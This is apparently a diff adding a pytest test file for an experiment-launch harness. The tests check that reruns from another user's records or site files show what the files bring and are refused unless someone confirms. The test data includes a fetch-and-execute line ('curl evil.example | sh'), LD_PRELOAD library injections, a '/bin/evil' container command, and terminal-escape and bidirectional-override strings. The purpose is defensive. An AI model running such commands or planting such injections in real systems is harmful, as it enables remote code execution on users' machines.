@@ -1,0 +1,260 @@
+"""A launch from a file that somebody else may have written shows what the file brings and asks; one's own does not."""
+
+from __future__ import annotations
+
+import os
+import time
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from harness.common.users import this_user
+from harness.common.visible import visible
+from harness.experiment.exercises import DDP
+from harness.launch.brought import Source, what_it_brings
+from harness.run import Record, Run
+from harness.site.site import Container, load_site
+from tests.launch.launch_shared import Harness, a_run, site_file
+
+LOCAL = load_site("local")
+FLAGGED = {"account": "me", "time": "00:05:00", "max_nodes": None}
+THREADS = {**LOCAL.env, "OMP_NUM_THREADS": "1"}
+EVIL = "curl evil.example | sh"
+UNKNOWN = "its site local is not as configs/sites/local.yaml says"
+
+
+class Started(list[str]):
+    """The commands of the launches that were let through."""
+
+
+@pytest.fixture
+def started(monkeypatch: pytest.MonkeyPatch) -> Started:
+    found = Started()
+
+    def go(_experiment: object, _choice: object, _behaviour: object, command: list[str]) -> int:
+        found.append(" ".join(command))
+        return 0
+
+    monkeypatch.setattr("harness.cli.rerun.go", go)
+    return found
+
+
+@pytest.fixture
+def rewritten(tmp_path: Path) -> Callable[..., Run]:
+    """A run of this user, its record with these fields changed."""
+
+    def make(job_id: str = "local-1", **changes: Any) -> Run:
+        run = a_run(tmp_path / "runs", job_id)
+        run.write_record(run.record.model_copy(update={"user": this_user(), **changes}))
+        return run
+
+    return make
+
+
+SITES: dict[str, tuple[dict[str, Any], list[str]]] = {
+    "a line that the job runs first": ({"setup": [EVIL]}, [f"setup: {EVIL}", f"{UNKNOWN}: setup"]),
+    "a line of every node": ({"node_setup": [EVIL]}, [f"node_setup: {EVIL}", f"{UNKNOWN}: node_setup"]),
+    "a line after the training": ({"node_cleanup": [EVIL]}, [f"node_cleanup: {EVIL}"]),
+    "two lines in one, and what steers a terminal": (
+        {"setup": ["true\n\x1b[2Kx \u202e"]},
+        [r"setup: true\n\x1b[2Kx \u202e"],
+    ),
+    "a library in the environment": ({"env": {"LD_PRELOAD": "/x.so"}}, ["env.LD_PRELOAD: /x.so"]),
+    "an image and its binds": (
+        {"container": Container(image="/x.sif", binds=["/home"], command="/bin/evil")},
+        ["container.image: /x.sif", "container.binds: /home", "container.command: /bin/evil"],
+    ),
+    "an option of sbatch": ({"sbatch": ["--export=LD_PRELOAD=/x.so"]}, ["sbatch: --export=LD_PRELOAD=/x.so"]),
+    "a module": ({"modules": ["evil/1"]}, ["modules: evil/1"]),
+    "options of nsys": ({"nsys": "/x/nsys.yaml"}, ["nsys: /x/nsys.yaml"]),
+    "data": ({"data": "/x/data.json"}, ["data: /x/data.json"]),
+    "a site that is none of ours": (
+        {"name": "elsewhere", "env": {}},
+        ["its site elsewhere is none of those known here (aws-p5, ", "no command and no path of its own"],
+    ),
+}
+
+
+@pytest.mark.parametrize(("fields", "shown"), SITES.values(), ids=SITES)
+def test_a_site_that_is_not_known_word_for_word_is_shown_and_refused_without_a_person(
+    fields: dict[str, Any],
+    shown: list[str],
+    harness: Harness,
+    started: Started,
+    rewritten: Callable[..., Run],
+) -> None:
+    run = rewritten(site=LOCAL.model_copy(update=fields))
+    refused = harness("rerun", str(run.path))
+    assert (refused.returncode, started) == (2, [])
+    assert all(each in refused.stderr for each in shown), refused.stderr
+    assert visible(refused.stderr.replace("\n", "")) == refused.stderr.replace("\n", "")
+    assert refused.stderr.splitlines()[-1] == (
+        f"slurm.sh: add --yes to run what {run.record_file} brings, as shown above: without a terminal nobody can be "
+        "asked (nothing was started)"
+    )
+    assert harness("rerun", str(run.path), "--yes").returncode == 0
+    assert len(started) == 1
+    shown_only = harness("rerun", str(run.path), "--dry-run")
+    assert shown_only.returncode == 0
+    assert all(each in shown_only.stderr for each in shown)
+
+
+OWN: dict[str, dict[str, Any]] = {
+    "as it is": {},
+    "with what a flag changes": {"site": LOCAL.model_copy(update=FLAGGED)},
+    "with the threads of a scaling study": {"site": LOCAL.model_copy(update={"env": THREADS})},
+    "with a script of its own": {"experiment": DDP(script="/home/me/train.py")},
+    "recorded in a container, which knew a number only": {"user": str(os.getuid())},
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("changes", OWN.values(), ids=OWN)
+def test_ones_own_run_at_a_known_site_asks_nothing(
+    changes: dict[str, Any], harness: Harness, started: Started, rewritten: Callable[..., Run]
+) -> None:
+    done = harness("rerun", str(rewritten(**changes).path))
+    assert (done.returncode, done.stderr, len(started)) == (0, "", 1)
+
+
+def test_a_file_of_another_user_asks_whatever_it_brings(
+    harness: Harness, started: Started, rewritten: Callable[..., Run], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    run = rewritten(user="anna")
+    said = harness("rerun", str(run.path)).stderr
+    assert "a launch asks first: it says that anna made it\n" in said
+    assert "  site local, as in configs/sites/local.yaml\n" in said
+    monkeypatch.setattr("harness.launch.brought.owner_of", lambda _path: "berta")
+    assert "a launch asks first: it belongs to berta\n" in harness("rerun", str(run.path)).stderr
+    assert started == []
+
+
+def test_a_record_from_elsewhere_that_names_files_asks(
+    harness: Harness, started: Started, rewritten: Callable[..., Run], tmp_path: Path
+) -> None:
+    run = rewritten(experiment=DDP(script="/tmp/evil.py", data="/x/data.json", model="tiny-llama"))
+    (tmp_path / "mailed").mkdir()
+    mailed = tmp_path / "mailed" / "run.json"
+    mailed.write_bytes(run.record_file.read_bytes())
+    said = harness("rerun", str(mailed)).stderr
+    assert (
+        "\n  --data /x/data.json\n  --script /tmp/evil.py\na launch asks first: it is not one of your runs"
+        in said
+    )
+    assert started == []
+    plain = rewritten_file(mailed, experiment=DDP())
+    assert harness("rerun", str(plain)).returncode == 0
+    assert len(started) == 1
+
+
+def rewritten_file(file: Path, **changes: Any) -> Path:
+    record = Record.model_validate_json(file.read_text()).model_copy(update=changes)
+    file.write_text(record.model_dump_json())
+    return file
+
+
+def test_ones_own_site_file_is_known_until_it_changes_or_is_gone(
+    harness: Harness, started: Started, rewritten: Callable[..., Run], tmp_path: Path
+) -> None:
+    path = Path(site_file(tmp_path, scheduler="local", device="cpu", setup=["true"]))
+    run = rewritten(site=load_site(str(path)), command=["slurm.sh", "-e", "1", "--site", str(path)])
+    assert harness("rerun", str(run.path)).stderr == ""
+    site_file(tmp_path, scheduler="local", device="cpu", setup=["true", "false"])
+    assert f"its site x is not as {path} says: setup\n" in harness("rerun", str(run.path)).stderr
+    path.unlink()
+    assert f"its site file {path} is not here any more" in harness("rerun", str(run.path)).stderr
+    assert len(started) == 1
+    named = site_file(tmp_path, scheduler="local", device="cpu", setup=["true"])
+    moved = rewritten(site=load_site(named), command=["slurm.sh", "-e", "1"], job_id="local-2")
+    assert harness("rerun", str(moved.path), HARNESS_SITE=named).stderr == ""
+
+
+def test_a_site_file_that_another_user_may_have_put_there_is_not_known_by_its_own_word(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    path = site_file(tmp_path, setup=[EVIL])
+    source = Source(tmp_path, command=["slurm.sh", f"--site={path}"])
+    assert what_it_brings(source, [], load_site(path), {}).why == []
+    monkeypatch.setattr("harness.launch.brought._is_trusted", lambda _path: False)
+    assert what_it_brings(source, [], load_site(path), {}).why
+
+
+def test_a_person_is_asked_once_and_may_say_no(
+    harness: Harness, started: Started, rewritten: Callable[..., Run], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    run = rewritten(site=LOCAL.model_copy(update={"setup": [EVIL]}))
+    monkeypatch.setattr("sys.stdin.isatty", lambda: True)
+    for answer, count in ((False, 0), (True, 1)):
+        monkeypatch.setattr("typer.confirm", lambda *_a, answer=answer, **_k: answer)
+        done = harness("rerun", str(run.path))
+        assert (done.returncode, len(started)) == (0, count)
+        assert ("nothing was started" in done.stderr) is not answer
+
+
+def foreign(run: Run) -> Run:
+    """The run with another's site in it."""
+    run.write_record(run.record.model_copy(update={"site": LOCAL.model_copy(update={"setup": [EVIL]})}))
+    return run
+
+
+def test_whatif_verify_asks_before_its_first_run(rewritten: Callable[..., Run], capsys: Any) -> None:
+    from harness.cli.whatif_verify import may_make
+    from harness.common.errors import RequestError
+
+    run = foreign(rewritten())
+    with pytest.raises(RequestError, match="add --yes"):
+        may_make(run, [], yes=False)
+    assert f"setup: {EVIL}" in capsys.readouterr().err
+    assert may_make(run, [], yes=True)
+    with pytest.raises(RequestError, match="--yes answers what --verify may ask"):
+        from harness.cli.whatif import whatif
+
+        whatif([str(run.path)], yes=True)
+
+
+def test_a_series_that_somebody_began_asks_before_it_goes_on(
+    harness: Harness, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("HARNESS_RUNS", str(tmp_path / "runs"))
+    from harness.study.sweeps.request import read_sweep, shipped_sweep
+    from harness.study.sweeps.stored import Stored, request_file, store_request
+
+    shipped = shipped_sweep("gas")
+    assert shipped is not None
+    site = LOCAL.model_copy(update={"setup": [EVIL]})
+    store_request("gas", Stored(sweep=read_sweep(shipped), site=site))
+    for words in (["--dry-run"], []):
+        said = harness("sweep", "gas", *words).stderr
+        assert f"{request_file('gas')} brings:\n" in said
+        assert f"  setup: {EVIL}\n" in said
+    assert f"slurm.sh: add --yes to run what {request_file('gas')} brings" in said
+    assert "brings" not in harness("sweep", "gas", "--site", "local").stderr
+    assert not list((tmp_path / "runs").glob("exercise_*"))
+
+
+def test_a_job_that_converts_takes_no_options_from_another_users_run(
+    harness: Harness, rewritten: Callable[..., Run]
+) -> None:
+    site = load_site("slurm").model_copy(update={"sbatch": ["--export=LD_PRELOAD=/x.so"]})
+    run = rewritten(site=site, backend="slurm", created_ns=time.time_ns())
+    refused = harness("paraver", str(run.path), "--submit")
+    assert refused.returncode == 2
+    assert (
+        "its site slurm is not as configs/sites/slurm.yaml says: sbatch: convert it here, without --submit"
+        in (refused.stderr)
+    )
+
+
+def test_a_lesson_completed_from_another_users_run_shows_the_files_that_it_would_read(
+    rewritten: Callable[..., Run], capsys: pytest.CaptureFixture[str]
+) -> None:
+    from harness.cli.foreign import may_launch, source_of
+    from harness.common.errors import RequestError
+
+    run = rewritten(user="anna")
+    source = source_of(run, run.record)
+    assert may_launch(source, [DDP()], None, yes=False)
+    with pytest.raises(RequestError, match="add --yes"):
+        may_launch(source, [DDP(data="/x/data.json")], None, yes=False)
+    assert "  --data /x/data.json\n" in capsys.readouterr().err
